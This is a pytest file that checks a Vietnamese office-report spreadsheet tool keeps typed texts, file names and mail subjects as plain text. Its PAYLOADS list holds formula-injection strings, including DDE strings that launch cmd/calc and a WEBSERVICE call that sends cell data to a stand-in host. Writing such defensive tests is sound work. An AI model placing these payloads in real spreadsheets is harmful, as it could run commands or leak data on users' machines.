"""Texts of units that a spreadsheet would take for formulas stay texts, wherever they come to stand."""

from __future__ import annotations

import json
import os
import re
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from itertools import cycle
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from lxml import etree
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell, MergedCell
from openpyxl.worksheet.worksheet import Worksheet

from cchc_xl.core.tables import CATALOGUE
from tests.adapters.mails import eml
from tests.journeys import sheets
from tests.journeys.played import blank_office
from tests.journeys.terminal import Ran, cchc

PERIOD = ("--period", "2023-H1")
DAY = ("--as-of", "2023-06-14")
RECEIVED = 1_685_900_000  # 5 June 2023
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
WORD = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"

PAYLOADS = (
    '=HYPERLINK("http://x.invalid","y")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "=1+1",
    "\t=1+2",
    "\r=1+3",
    "{=1+4}",
    '"=1+5"',
    "'=1+6",
    "=DDE(\"cmd\";\"/C calc\";\"A0\")",
    '=WEBSERVICE("http://x.invalid/"&A1)',
    "=IMPORTXML(\"http://x.invalid\",\"//a\")",
    "=1+7\n=1+8",
    "＝1+9",
    "<f>1+1</f>&amp;<script>",
    "_x003D_1+10",  # how a file may spell =1+10
)  # fmt: skip
# Excel's own escape of one character in a stored text.
ESCAPE = re.compile(r"_x005F_(?=x[0-9A-Fa-f]{4}_)")
# Fill-in columns that hold texts, by the header row that they stand in.
TEXT_HEADERS = {
    "Số, ký hiệu sản phẩm", "Kết quả thực hiện", "Nội dung phối hợp đã thực hiện", "Khó khăn, vướng mắc",
    "Kiến nghị", "Ghi chú", "Đánh giá của đơn vị",
}  # fmt: skip
NAMES = ("=1+1.xlsx", "+cmd|' C calc'!A0.xlsx", "@SUM(1).xlsx", "-2+3.xlsx", "{=1+4}.xlsx", "\t=1+2.xlsx")


def spread(book_path: Path, texts: Iterator[str]) -> list[str]:
    """Type a payload into every text cell of a form, as text; gives what was typed."""
    book = load_workbook(book_path)
    typed: list[str] = []

    def put(cell: Cell | MergedCell, prefix: str = "") -> None:
        text = prefix + next(texts)
        assert isinstance(cell, Cell)
        cell.value = text
        cell.data_type = "s"  # openpyxl would write a formula
        typed.append(text)

    for sheet in book.worksheets:
        for header, rows in blocks(sheet):
            for row in rows:
                for column, name in header.items():
                    if name == "Trạng thái (*)":
                        row[column].value = "Không thực hiện được"
                    elif name in TEXT_HEADERS:
                        put(row[column])
    changes = book["Đề xuất sửa đổi"]
    head = next(cell for row in changes for cell in row if cell.value == "Loại đề xuất")
    for offset in range(1, 6):
        changes.cell(head.row + offset, 1).value = "Bổ sung nhiệm vụ"
        put(changes.cell(head.row + offset, 3))
        put(changes.cell(head.row + offset, 4))
    book.save(book_path)
    return typed


def blocks(sheet: Worksheet) -> Iterator[tuple[dict[int, str], list[tuple[Cell, ...]]]]:
    """Header cells and the rows below, of every block whose columns hold texts."""
    header: dict[int, str] = {}
    for row in sheet.iter_rows():
        names = {number: str(cell.value) for number, cell in enumerate(row) if cell.value is not None}
        if TEXT_HEADERS & set(names.values()):
            header = names
        elif header and row[0].value and ("." in str(row[0].value) or sheet.title == "Đánh giá chung"):
            yield header, [row]  # type: ignore[list-item]
        else:
            header = header if sheet.title == "Đánh giá chung" else {}


@dataclass(frozen=True)
class Played:
    book: Path
    before: dict[str, bytes]
    after: dict[str, bytes]
    typed: list[str]
    collected: Ran
    rolled: Ran
    report: Path


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.fixture(scope="module")
def played(tmp_path_factory: pytest.TempPathFactory) -> Played:
    home = blank_office(tmp_path_factory, tmp_path_factory.mktemp("công thức") / "văn phòng")
    book, inbox = home / "So.xlsm", home / "den"
    inbox.mkdir()
    before = parts(book)
    texts = cycle(PAYLOADS)
    typed = []
    for code in ("VP", "TTr"):
        form = inbox / f"{code}.xlsx"
        form.write_bytes((home / "bieu_mau" / f"{code}_2023-H1.xlsx").read_bytes())
        typed += spread(form, texts)
    for name in NAMES:
        (inbox / name).write_bytes(b"khong phai so: " + name.encode())
    sender = eml(("=1+1.xlsx", b""), subject='=HYPERLINK("http://x.invalid","y")')
    (inbox / "=1+1.eml").write_bytes(sender.replace(b"THPT", b"=1+1"))
    for path in inbox.iterdir():
        os.utime(path, (RECEIVED, RECEIVED))
    collected = cchc("collect", book, "--from", inbox, "--json", *DAY)
    rolled = cchc("rollup", book, *PERIOD, *DAY, "--json")
    assert cchc("report", book, *PERIOD, *DAY, "-o", home / "bc.docx").code in (0, 1)
    assert cchc("remind", book, *PERIOD, *DAY).code in (0, 1)
    return Played(book, before, parts(book), typed, collected, rolled, home / "bc.docx")


def cells(package: Mapping[str, bytes]) -> Iterator[tuple[str, str, str, str]]:
    """Sheet part, address, type and text of every cell that shows a text, read from the XML alone."""
    strings = (
        [
            "".join(t.text or "" for t in item.iter(f"{MAIN}t"))
            for item in etree.fromstring(package["xl/sharedStrings.xml"])
        ]
        if "xl/sharedStrings.xml" in package
        else []
    )
    for name, content in package.items():
        if not name.startswith("xl/worksheets/sheet"):
            continue
        for cell in etree.fromstring(content).iter(f"{MAIN}c"):
            kind, value = cell.get("t", "n"), cell.findtext(f"{MAIN}v")
            text = "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))
            if kind == "s" and value is not None:
                text = strings[int(value)]
            if text or value:
                yield name, cell.get("r", ""), kind, ESCAPE.sub("_", text or value or "")


def test_the_forms_were_taken(played: Played) -> None:
    states = {row["file"]: row["state"] for row in played.collected.json["rows"]}
    assert states["VP.xlsx"] == states["TTr.xlsx"] == "merged"
    assert {name.strip() for name in NAMES} | {"=1+1.eml/=1+1.xlsx"} <= {name.strip() for name in states}
    assert len(played.typed) > 100
    assert set(PAYLOADS) <= set(played.typed)


def test_every_text_stands_in_the_workbook_as_a_text(played: Played) -> None:
    found = [(kind, text) for _, _, kind, text in cells(played.after)]
    for kind, text in found:
        assert kind in ("s", "n", "b"), text
        assert kind == "s" or re.fullmatch(r"-?[\d.]+(E[-+]?\d+)?", text), text
    for payload in PAYLOADS:
        shown = payload.strip().replace("_x003D_", "=")
        assert any(kind == "s" and shown in text for kind, text in found), payload


def without_links(sheet: bytes) -> bytes:
    """A sheet less the formulas that our own builder put there, which grow with their tables."""
    for column in (c for spec in CATALOGUE for c in spec.columns if c.formula):
        sheet = sheet.replace(f"<f>{escape(column.formula[1:])}</f>".encode(), b"")
    return sheet


def test_of_senders_names_nothing_reaches_a_path_that_is_linked(played: Played) -> None:
    paths = {row["Tệp lưu"] for row in sheets.table(played.book, "tblTepDen")}
    assert len(paths) >= len(NAMES) + 2
    for path in paths:
        assert re.fullmatch(r"So_dulieu/goc/[0-9a-f]{64}\.xlsx", path), path


def test_no_formula_link_or_connection_came_into_the_workbook(played: Played) -> None:
    assert set(played.after) == set(played.before)
    for name, before in played.before.items():
        after = played.after[name]
        if name.endswith(".rels"):
            assert after == before, name
        if name.startswith("xl/worksheets/sheet"):
            before, after = without_links(before), without_links(after)
            for tag in (b"<f>", b"<f ", b"<hyperlink", b'"externalReference', b"<oleObject", b"dde"):
                assert after.count(tag) == before.count(tag), (name, tag)
            assert b't="str"' not in after
    assert b"externalReference" not in played.after["xl/workbook.xml"]


def test_a_second_reader_sees_no_formula_where_a_text_was_typed(played: Played) -> None:
    rows = [
        row
        for name in ("tblKienNghi", "tblLoiDuLieu", "tblTienDoNop")
        for row in sheets.table(played.book, name)
    ]
    texts = [value for row in rows for value in row.values() if isinstance(value, str)]
    assert sum(text.startswith("=") for text in texts) > 10


def test_names_of_files_and_mails_stand_as_texts(played: Played) -> None:
    found = [(kind, text) for _, _, kind, text in cells(played.after)]
    for name in ("=1+1.xlsx", "+cmd|' C calc'!A0.xlsx", "@SUM(1).xlsx", "-2+3.xlsx", "=1+1.eml/=1+1.xlsx"):
        assert {kind for kind, text in found if name in text} == {"s"}, name


def test_the_report_holds_them_as_plain_text(played: Played) -> None:
    package = parts(played.report)
    body = etree.fromstring(package["word/document.xml"])
    text = "".join(t.text or "" for t in body.iter(f"{WORD}t"))
    assert sum(payload.strip().split("\n")[0] in text for payload in PAYLOADS) > 5
    for name, content in package.items():
        if not name.endswith((".xml", ".rels")):
            continue
        root = etree.fromstring(content)
        codes = [node.text or "" for node in root.iter(f"{WORD}instrText")]
        codes += [node.get(f"{WORD}instr") or "" for node in root.iter(f"{WORD}fldSimple")]
        assert {code.split()[0] for code in codes} <= {"PAGE", "NUMPAGES", "SEQ"}, name
        assert root.findall(f".//{WORD}hyperlink") == [], name
        assert b'TargetMode="External"' not in content, name
        assert b"<script" not in content, name


def test_what_other_programs_read_is_plain(played: Played) -> None:
    said = json.loads(played.collected.out)
    assert {row["file"] for row in said["rows"]} >= {"=1+1.xlsx", "=1+1.eml/=1+1.xlsx"}
    assert isinstance(json.loads(played.rolled.out), dict)
